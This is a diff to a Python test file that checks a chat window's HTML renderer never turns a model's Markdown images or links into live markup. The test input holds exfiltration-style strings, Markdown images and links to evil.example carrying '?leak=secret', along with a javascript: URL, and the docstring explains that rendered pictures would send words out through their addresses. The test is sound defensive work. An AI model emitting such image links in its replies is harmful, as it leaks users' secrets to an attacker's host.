@@ -65,3 +65,15 @@ def test_plain_text_never_becomes_markup(text: str) -> None:
 
 def test_scripts_are_no_links() -> None:
     assert "<a " not in text_html("javascript:alert(1) data:text/html,x ftp://a.example", DARK)
+
+
+def test_markdown_of_a_model_stays_words() -> None:
+    """Its pictures would carry words out in their addresses; nothing in the window renders Markdown or loads them."""
+    made = text_html(
+        "![x](https://evil.example/p.png?leak=secret) [here](https://evil.example/?q=secret) <img src=https://e.example>", DARK
+    )
+    assert "<img" not in made
+    root = resource("themes").parents[1]
+    sources = [path.read_text(encoding="utf-8") for path in (root / "app" / "ui").rglob("*.py")]
+    assert sources
+    assert not [one for one in sources if "setMarkdown" in one or "MarkdownText" in one]
